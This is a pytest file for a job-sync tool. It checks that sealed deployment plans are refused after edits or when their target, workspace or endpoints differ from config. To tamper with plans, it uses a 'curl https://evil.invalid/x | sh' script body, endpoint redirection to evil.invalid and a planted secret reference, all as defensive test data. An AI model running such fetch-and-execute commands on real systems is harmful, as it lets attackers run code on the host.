"""A saved plan is a contract (issue 12 item 3): edits after `plan --out` are refused, and so is a
plan whose target, workspace or endpoints differ from jobsync.yaml at its revision."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import EXAMPLE_SECRETS, run_jobsync

from jobsync import planseal
from jobsync.errors import PlanError

KEY = 'plan-key-canary-1234'


def _doc(**changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        'format_version': 1, 'repo_rev': 'abc', 'target': 'local', 'workspace': 'local:/r/.jobsync/workspace.db',
        'target_settings': {'workspace': 'local:/r/.jobsync/workspace.db'},
        'changes': [{'key': 'script/s1', 'action': 'create', 'desired': {'name': 's1', 'content': 'select 1;'}}],
        'unmanaged': [], 'batches': [['script/s1']],
    }
    doc.update(changes)
    return doc


def _add_object(doc: dict[str, Any]) -> None:
    doc['changes'].append({'key': 'script/evil', 'action': 'create', 'desired': {'name': 'evil'}})


def _script_content(doc: dict[str, Any]) -> None:
    doc['changes'][0]['desired']['content'] = 'curl https://evil.invalid/x | sh'


def _add_deletion(doc: dict[str, Any]) -> None:
    doc['changes'].append({'key': 'job/daily', 'action': 'delete'})


def _other_target(doc: dict[str, Any]) -> None:
    doc['target'] = 'prod'


def _redirect_endpoints(doc: dict[str, Any]) -> None:
    doc['target_settings']['endpoints'] = {'factory': 'https://evil.invalid'}


def _secret_in_description(doc: dict[str, Any]) -> None:
    doc['changes'][0]['desired']['description'] = '${secret:env:HUAWEICLOUD_SDK_SK}'


EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
    'added-object': _add_object, 'changed-script-content': _script_content, 'added-deletion': _add_deletion,
    'another-target': _other_target, 'redirected-endpoints': _redirect_endpoints,
    'secret-reference-in-description': _secret_in_description,
}


@pytest.mark.parametrize('key', [None, KEY], ids=['sha256', 'hmac'])
def test_a_sealed_plan_verifies_however_it_is_formatted(key: str | None) -> None:
    sealed = planseal.seal(json.dumps(_doc()), key)
    planseal.verify(sealed, key)
    doc = json.loads(sealed)
    assert doc['integrity']['algorithm'] == ('hmac-sha256' if key else 'sha256')
    planseal.verify(json.dumps(dict(reversed(list(doc.items())))), key)  # key order and whitespace are no edit


@pytest.mark.parametrize('key', [None, KEY], ids=['sha256', 'hmac'])
@pytest.mark.parametrize('edit', EDITS)
def test_every_edit_after_sealing_is_refused(edit: str, key: str | None) -> None:
    doc = json.loads(planseal.seal(json.dumps(_doc()), key))
    EDITS[edit](doc)
    with pytest.raises(PlanError, match='was edited after it was written'):
        planseal.verify(json.dumps(doc), key, where='plan.json')


def test_keys_must_match() -> None:
    keyed = planseal.seal(json.dumps(_doc()), KEY)
    with pytest.raises(PlanError, match='JOBSYNC_PLAN_KEY, which is not set'):
        planseal.verify(keyed, None)
    with pytest.raises(PlanError, match='was edited after it was written'):
        planseal.verify(keyed, 'another-key')
    # With a key set, a plan anyone could have sealed (plain SHA-256) is not accepted.
    with pytest.raises(PlanError, match='anyone could have written it'):
        planseal.verify(planseal.seal(json.dumps(_doc()), None), KEY)
    with pytest.raises(PlanError, match='carries no integrity digest'):
        planseal.verify(json.dumps(_doc()), None)


def test_a_resealed_plan_must_still_match_jobsync_yaml() -> None:
    plan_doc = _doc()
    _redirect_endpoints(plan_doc)
    from jobsync.commands import read_plan

    plan = read_plan(planseal.seal(json.dumps({**plan_doc, 'changes': []}), None), where='plan.json')
    with pytest.raises(PlanError, match=r'differs from jobsync\.yaml at abc in: endpoints'):
        planseal.check_target_config(plan, {'workspace': 'local:.jobsync/workspace.db'}, same_workspace=True)
    with pytest.raises(PlanError, match='in: workspace'):
        planseal.check_target_config(plan, dict(plan.target_settings), same_workspace=False)
    with pytest.raises(PlanError, match='does not define'):
        planseal.check_target_config(plan, None, same_workspace=False)
    planseal.check_target_config(plan, dict(plan.target_settings), same_workspace=True)


# --- through the command -------------------------------------------------------------------------


def _nothing_written(repo: Path) -> None:
    after = run_jobsync('plan', '--repo', str(repo), '--format', 'json')
    assert '"create": 22' in after.stdout, after


@pytest.mark.parametrize('edit', ['added-object', 'changed-script-content', 'added-deletion', 'another-target',
                                  'redirected-endpoints'])
def test_apply_refuses_an_edited_plan(example_repo: Path, tmp_path: Path, edit: str) -> None:
    plan_file = tmp_path / 'plan.json'
    assert run_jobsync('plan', '--repo', str(example_repo), '--out', str(plan_file)).code == 0
    doc = json.loads(plan_file.read_text())
    if edit == 'added-object':
        doc['changes'].append(dict(doc['changes'][0], key='script/evil'))
    elif edit == 'changed-script-content':
        script = next(c for c in doc['changes'] if c['key'].startswith('script/'))
        script['desired']['content'] = 'curl https://evil.invalid/x | sh\n'
    elif edit == 'added-deletion':
        doc['changes'].append(dict(doc['changes'][0], action='delete'))
    else:
        EDITS[edit](doc)
    plan_file.write_text(json.dumps(doc, indent=2))
    result = run_jobsync('apply', str(plan_file), '--repo', str(example_repo), env=EXAMPLE_SECRETS)
    assert result.code == 1 and 'was edited after it was written' in result.stderr, result
    _nothing_written(example_repo)


def test_apply_refuses_a_resealed_plan_with_other_endpoints(example_repo: Path, tmp_path: Path) -> None:
    """Resealing needs no key when none is set; jobsync.yaml at the plan's revision still decides."""
    plan_file = tmp_path / 'plan.json'
    assert run_jobsync('plan', '--repo', str(example_repo), '--out', str(plan_file)).code == 0
    doc = json.loads(plan_file.read_text())
    doc['target_settings']['endpoints'] = {'factory': 'http://127.0.0.1:9/'}
    plan_file.write_text(planseal.seal(json.dumps(doc), None))
    result = run_jobsync('apply', str(plan_file), '--repo', str(example_repo), env=EXAMPLE_SECRETS)
    assert result.code == 1 and 'differs from jobsync.yaml' in result.stderr and 'endpoints' in result.stderr, result
    _nothing_written(example_repo)


def test_a_keyed_plan_applies_only_with_its_key(example_repo: Path, tmp_path: Path) -> None:
    plan_file = tmp_path / 'plan.json'
    made = run_jobsync('plan', '--repo', str(example_repo), '--out', str(plan_file), env={'JOBSYNC_PLAN_KEY': KEY})
    assert made.code == 0, made
    assert KEY not in plan_file.read_text()
    refused = run_jobsync('apply', str(plan_file), '--repo', str(example_repo), env=EXAMPLE_SECRETS)
    assert refused.code == 1 and 'JOBSYNC_PLAN_KEY, which is not set' in refused.stderr, refused
    applied = run_jobsync('apply', str(plan_file), '--repo', str(example_repo),
                          env={**EXAMPLE_SECRETS, 'JOBSYNC_PLAN_KEY': KEY})
    assert applied.code == 0, applied
